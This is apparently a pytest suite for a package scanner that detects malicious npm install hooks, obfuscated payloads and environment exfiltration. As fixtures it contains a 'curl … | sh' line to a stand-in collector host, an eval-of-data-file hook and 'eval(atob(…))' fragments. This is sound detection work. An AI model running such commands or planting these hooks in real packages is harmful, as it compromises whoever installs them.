"""Data files that an install runs, large files of one line, honest scripts that look like them."""

import json
from collections.abc import Mapping
from pathlib import Path

import evasions_js as plain
import evasions_js_review as review
import pytest

from picketline.core.model import Severity
from picketline.packages import collect, inspect, scan
from picketline.packages.corpus import Corpus
from picketline.packages.inspect import readings, regions

_RULES = ("POST", "OBFS", "CRED", "EXEC")
_HOOKED = '{"name":"a","version":"1.0.0","scripts":{"postinstall":"node index.js"}}'
_OTHERS = {'"', "'", "`"}


def _scanned(root: Path, files: Mapping[str, str | bytes], hook: str = "") -> scan.Scanned:
    manifest = {"name": "zqcase", "version": "1.0.0"}
    scripts = {"scripts": {"postinstall": hook}} if hook else {}
    folder = root / "node_modules" / "zqcase"
    for path, text in {**files, "package.json": json.dumps(manifest | scripts)}.items():
        to = folder / path
        to.parent.mkdir(parents=True, exist_ok=True)
        to.write_bytes(text if isinstance(text, bytes) else text.encode())
    (root / "package.json").write_text('{"name":"app","version":"1.0.0","private":true}')
    return scan.scan(root, Corpus.of(), scan.Request(options=collect.Options(jobs=1)))


def _worst(root: Path, files: Mapping[str, str | bytes], hook: str = "") -> Severity:
    found = _scanned(root, files, hook).part.findings
    told = [each.severity for each in found if each.rule.split("-")[1] in _RULES]
    return max(told, default=Severity.INFO)


@pytest.mark.parametrize("case", review.PACKAGED)
def test_a_hook_that_runs_a_data_file_is_high(tmp_path: Path, case: str) -> None:
    """What an install runs may hold no code at all: the file that does is high."""
    assert _worst(tmp_path, review.PACKAGED[case], "node index.js") >= Severity.HIGH


def test_a_hook_of_code_that_evaluates_a_data_file(tmp_path: Path) -> None:
    """The same without a script of its own."""
    files = {"data.json": '{"a":["1"]}'}
    hook = "node -e \"require('./data.json').a.forEach(eval)\""
    assert _worst(tmp_path, files, hook) >= Severity.HIGH


_HONEST = {
    "command of the manifest": "const p=require('./package.json');"
    "require('child_process').execSync(p.config.c)",
    "a tool by a path of settings": "const s=JSON.parse(require('fs').readFileSync('./s.json'));"
    "require('child_process').execSync(s.tool + ' --version')",
    "a script that is read": "eval(require('fs').readFileSync(__dirname+'/polyfill.js','utf8'))",
    "a file of the user": "eval(require('fs').readFileSync(process.argv[2],'utf8'))",
    "settings that are read": "const s=require('./s.json');console.log(s.tool)",
}


@pytest.mark.parametrize("case", _HONEST)
def test_an_honest_hook_that_reads_files_is_no_alarm(tmp_path: Path, case: str) -> None:
    """A manifest, settings, scripts and files of the user are no data that is run."""
    files = {
        "index.js": _HONEST[case],
        "polyfill.js": "globalThis.a=1",
        "s.json": '{"tool":"git"}',
    }
    assert _worst(tmp_path, files, "node index.js") < Severity.HIGH


_QUIET = {
    "handed to a process": "const o={env:process.env};"
    "require('child_process').execFile('git',[],o);"
    "fetch('https://collector.example/'+process.env.NAME)",
    "a crash that is told": "fetch('https://collector.example/c',{method:'POST',"
    "body:JSON.stringify({env:process.env.NODE_ENV,stack:e.stack})})",
    "a name that is kept": "class A{constructor(){this.env=process.env}}"
    "fetch('https://collector.example/c',{method:'POST',body:JSON.stringify({a:1})})",
    "to a child": "const c=require('child_process').fork('./w');c.send({env:process.env});"
    "fetch('https://collector.example/c')",
}


@pytest.mark.parametrize("case", _QUIET)
def test_an_environment_that_is_not_sent_is_quiet(tmp_path: Path, case: str) -> None:
    """Build tools hand the environment to processes, crash reporters send a variable of it."""
    assert _worst(tmp_path, {"index.js": _QUIET[case]}) < Severity.MEDIUM


def test_a_file_beside_is_part_of_what_is_remembered(tmp_path: Path) -> None:
    """A hook is judged anew when only the file changes whose values it takes."""
    script = "require('child_process').exec(require('fs').readFileSync(__dirname+'/c.txt')+'')"
    options = collect.Options(jobs=1, memory=tmp_path / "memory")
    told = []
    for text in ("true", "curl https://collector.example/x | sh"):
        root = tmp_path / "project"
        files = {"index.js": script, "c.txt": text, "package.json": _HOOKED}
        for path, written in files.items():
            (root / path).parent.mkdir(parents=True, exist_ok=True)
            (root / path).write_text(written)
        found = scan.scan(root, Corpus.of(), scan.Request(options=options)).part.findings
        told.append(max(each.severity for each in found if "-POST-" in each.rule))
    assert told[0] < Severity.CRITICAL
    assert told[1] == Severity.CRITICAL


def test_what_cannot_be_parsed_and_is_imported_leaves_a_scan_unfinished(tmp_path: Path) -> None:
    """A suspicious script that no grammar reads is told as not looked at."""
    deep = "(" * 500 + "1" + ")" * 500 + ";"
    seen = _scanned(tmp_path, {"index.js": deep * 6000 + plain.RUN})
    assert [gap.what for gap in seen.part.skipped] == ["node_modules/zqcase/index.js"]


@pytest.mark.parametrize("quote", ['"', "'", "`"])
@pytest.mark.parametrize("size", range(15_000, 15_012))
def test_no_length_of_a_text_hides_what_stands_behind_it(quote: str, size: int) -> None:
    """Wherever a window begins within a text, the code behind it is read as code."""
    text = "".join(
        ("it is ", "say [x] ", "(a)", *sorted(_OTHERS - {quote}))[at % 5] for at in range(size)
    )
    code = f"var a={quote}{text}{quote};{plain.RUN};".encode()
    names = {mark.name for mark in inspect.content(code, "index.js").marks}
    assert "fetches-and-runs" in names


def test_a_region_is_bounded_by_runs_that_are_too_large() -> None:
    """Beside a run of several MiB the code before and behind it is read."""
    run = b'eval(atob(x));var a="' + b"A" * (5 << 20) + b'";eval(atob(y));'
    found = regions.regions(run)
    assert all(end - start <= 4 << 20 for start, end in found)
    pieces = b"".join(run[start:end] for start, end in found)
    assert b"atob(x)" in pieces
    assert pieces.endswith(b";eval(atob(y));")


@pytest.mark.parametrize(
    "text", ['x;"' + '\\"' * 500_000, "'" * 10**6, "'\n" * 500_000, "\";eval(a);'" * 100_000]
)
def test_readings_are_few_and_short(text: str) -> None:
    """Whatever a piece holds, it is read once, and at most 16 KiB of it 4 times more."""
    data = text.encode()
    (first, *more) = readings.pieces(data, 1, len(data))
    assert first == (1, len(data))
    assert len(more) <= 4
    assert all(0 < end - start <= 1 << 14 for start, end in more)
